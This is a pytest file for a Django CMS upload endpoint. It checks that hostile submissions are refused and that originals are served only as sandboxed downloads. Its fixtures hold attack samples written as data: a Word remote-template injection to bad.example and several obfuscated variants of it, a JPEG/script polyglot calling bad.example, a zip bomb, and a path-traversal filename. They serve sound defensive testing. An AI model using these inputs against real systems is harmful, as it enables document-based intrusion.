"""What senders hand in is judged by its content; hostile files are refused with words, originals never open in a browser."""

from __future__ import annotations

import io
import stat
import uuid
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from cms import clock
from cms.requests.jobs import sweep_requests
from cms.requests.models import RequestFile
from tests.content.makers import picture_bytes

pytestmark = pytest.mark.django_db
TYPES = '<?xml version="1.0"?><Types/>'
HYPERLINK = '<Relationship Id="r1" Type="x/hyperlink" Target="https://angiang.gov.vn" TargetMode="External"/>'
TEMPLATE = '<Relationship Id="r1" Type="x/attachedTemplate" Target="https://bad.example/x.dotm" TargetMode="External"/>'


HIDDEN = {  # what Word reads as the same
    "spaces": TEMPLATE.replace('TargetMode="External"', "TargetMode = 'External'"),
    "lines": TEMPLATE.replace("<Relationship ", "<Relationship\n"),
    "a prefix": f'<r:Relationships xmlns:r="x">{TEMPLATE.replace("<Rel", "<r:Rel")}{HYPERLINK}</r:Relationships>',
    "letters as numbers": TEMPLATE.replace("External", "&#69;xternal"),
    "an entity": f'<!DOCTYPE x [<!ENTITY e "External">]>{TEMPLATE.replace("External", "&e;")}',
    "other bytes": f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16"),
    "another name": '<Relationship Id="r1" Type="x/2006/relationships/oleObject" Target="harmless/a.bin"/>',
    "no XML": TEMPLATE.replace("/>", ">"),
}


def word(**parts: str | bytes) -> bytes:
    """A .docx of these further parts; `__` stands for a slash."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<w:document/>")
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/").replace("_rels", "_rels/document.xml.rels"), text)
    return out.getvalue()


@pytest.fixture
def hand_in(member, client_for):
    """`hand_in("anh.jpg", bytes)`: send a file to a form as its script does."""
    client = client_for(member)

    def send(name, content, *, letter=False, draft=None):
        upload = SimpleUploadedFile(name, content)
        data = {"draft": draft or uuid.uuid4(), "letter": "1" if letter else "0", "file": upload}
        return client.post("/yeu-cau/tep/", data, headers={"accept": "application/json"})

    return send


def test_pictures_pdfs_documents_and_clips_are_kept_as_they_came(hand_in, clip_file):
    given = {
        "le hoi.jpg": picture_bytes(),
        "cong van.pdf": picture_bytes("PDF"),
        "thong bao.docx": word(word_rels=HYPERLINK),
        "ghe ngo.mp4": clip_file.read_bytes(),
    }
    draft = uuid.uuid4()
    kinds = [hand_in(name, content, draft=draft).json()["kind"] for name, content in given.items()]
    assert kinds == ["Ảnh", "PDF", "Word", "Video"]
    for one in RequestFile.objects.all():
        assert Path(one.file.path).read_bytes() == given[one.name]
        assert bool(one.preview) == (one.kind != "word")
        assert stat.S_IMODE(Path(one.file.path).stat().st_mode) == 0o600
        assert Path(settings.REQUESTS_ROOT) in Path(one.file.path).parents


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("virus.jpg", b"MZ\x90\x00" + b"\0" * 600, "chương trình"),
        ("trang.jpg", b"<html><script>alert(1)</script></html>", "trang web"),
        ("ve.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "SVG"),
        ("hai mat.jpg", picture_bytes() + b"<script>fetch('//bad.example')</script>", "JPEG"),
        ("danh sach.mp4", b"#EXTM3U\nhttp://bad.example/x.ts\n", "danh sách phát"),
        ("cu.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Office cũ"),
        ("macro.docx", word(word__vbaProject="x"), "macro"),
        ("mau.docx", word(word_rels=TEMPLATE), "mẫu lấy từ Internet"),
        ("bom.docx", word(word__bomb=b"\0" * 40_000_000), "quá lớn"),
        ("nen.zip", b"PK\x03\x04" + b"\0" * 60, "Word"),
        ("trong.jpg", b"", "tệp"),
    ],
)
def test_hostile_files_are_refused_with_words(hand_in, name, content, said):
    answer = hand_in(name, content)
    assert answer.status_code == 422
    assert said.lower() in answer.json()["error"].lower()
    assert not RequestFile.objects.exists()
    assert not list(Path(settings.REQUESTS_ROOT).rglob("*.*"))


@pytest.mark.parametrize("way", HIDDEN)
def test_a_document_that_fetches_or_runs_something_is_refused_however_it_is_written(hand_in, way):
    answer = hand_in("mau.docx", word(word_rels=HIDDEN[way]))
    assert answer.status_code == 422
    assert "mẫu lấy từ Internet" in answer.json()["error"]


def test_a_letter_is_a_picture_or_a_pdf_and_the_newer_one_counts(hand_in, clip_file):
    draft = uuid.uuid4()
    assert hand_in("phim.mp4", clip_file.read_bytes(), letter=True, draft=draft).status_code == 422
    hand_in("trang 1.jpg", picture_bytes(), letter=True, draft=draft)
    hand_in("ca van ban.pdf", picture_bytes("PDF"), letter=True, draft=draft)
    assert [one.name for one in RequestFile.objects.all()] == ["ca van ban.pdf"]


def test_the_same_file_twice_is_kept_once(hand_in):
    draft = uuid.uuid4()
    first, second = (hand_in("le hoi.jpg", picture_bytes(), draft=draft).json()["id"] for _ in range(2))
    assert first == second


def test_a_form_holds_only_so_many_files(hand_in):
    draft = uuid.uuid4()
    for n in range(20):
        RequestFile.objects.create(
            draft=draft, owner=owner(), kind="picture", name=f"{n}.jpg", bytes=1, sha256=str(n), at=clock.now()
        )
    answer = hand_in("mot nua.jpg", picture_bytes(), draft=draft)
    assert "20" in answer.json()["error"]


def test_what_was_sent_counts_for_a_month(hand_in, monkeypatch):
    monkeypatch.setattr("cms.requests.files.MAX_MONTH", 3 * len(picture_bytes()))
    kept = [hand_in(f"{n}.jpg", picture_bytes(), draft=uuid.uuid4()) for n in range(4)]
    assert [one.status_code for one in kept] == [200, 200, 200, 422]
    assert "ba mươi ngày" in kept[-1].json()["error"]
    RequestFile.objects.update(at=clock.now() - timedelta(days=31))
    assert hand_in("moi.jpg", picture_bytes(), draft=uuid.uuid4()).status_code == 200


def test_strangers_do_not_fill_the_disk(hand_in, monkeypatch):
    monkeypatch.setattr("cms.requests.files.RESERVE", 1 << 60)
    answer = hand_in("le hoi.jpg", picture_bytes())
    assert answer.status_code == 422
    assert "không còn chỗ" in answer.json()["error"]
    assert not RequestFile.objects.exists()


def test_forms_that_are_never_sent_hold_only_so_much(hand_in):
    for n in range(3):
        RequestFile.objects.create(
            draft=uuid.uuid4(),
            owner=owner(),
            kind="video",
            name=f"{n}.mp4",
            bytes=600 << 20,
            sha256=str(n),
            at=clock.now(),
        )
    answer = hand_in("mot nua.jpg", picture_bytes())
    assert answer.status_code == 422
    assert "1800 MB" in answer.json()["error"]


def owner() -> str:
    from django.contrib.auth import get_user_model

    return f"user:{get_user_model().objects.get(username='contributor').pk}"


def test_a_name_from_a_stranger_is_only_a_name(hand_in):
    name = hand_in("..\\..\\etc\\a\x00b<b>.html", picture_bytes()).json()["name"]
    assert "/" not in name
    assert "\\" not in name
    assert name.endswith(".jpg")


def test_originals_are_saved_never_opened_and_the_log_knows(sent, hand_in, editor, outsider, client_for, member):
    from cms.accounts.models import AuditEntry

    draft = uuid.uuid4()
    hand_in("le hoi.jpg", picture_bytes(), draft=draft)
    one = sent(draft=str(draft))
    file = one.files.get()
    answer = client_for(editor).get(f"/admin/requests/files/{file.pk}/original/")
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["Content-Type"] == "application/octet-stream"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert AuditEntry.objects.get(action="request.file").data["file"] == "le hoi.jpg"
    shown = client_for(editor).get(f"/admin/requests/files/{file.pk}/picture/")
    assert shown["Content-Type"] == "image/jpeg"
    assert b"".join(shown.streaming_content) != picture_bytes()
    for stranger in (outsider, member):
        for way in ("original", "picture"):
            assert client_for(stranger).get(f"/admin/requests/files/{file.pk}/{way}/").status_code in (302, 404)
    assert client_for(editor).get(f"/media/{file.file.name}").status_code == 404


def test_files_of_a_form_can_be_listed_and_removed(hand_in, member, client_for):
    draft = uuid.uuid4()
    kept = hand_in("le hoi.jpg", picture_bytes(), draft=draft).json()
    client = client_for(member)
    path = Path(RequestFile.objects.get().file.path)
    assert [one["id"] for one in client.get(f"/yeu-cau/tep/?draft={draft}").json()["files"]] == [kept["id"]]
    client.post(kept["drop"])
    assert not path.exists()
    assert client.get(f"/yeu-cau/tep/?draft={draft}").json() == {"files": []}


def test_forms_that_were_never_sent_are_swept(hand_in, sent):
    draft = uuid.uuid4()
    hand_in("dang do.jpg", picture_bytes(), draft=draft)
    hand_in("da gui.png", picture_bytes("PNG"), draft=(other := uuid.uuid4()))
    sent(draft=str(other))
    path = Path(RequestFile.objects.get(draft=draft).file.path)
    RequestFile.objects.update(at=clock.now() - timedelta(days=15))
    assert sweep_requests() == 1
    assert not path.exists()
    assert RequestFile.objects.get().request is not None
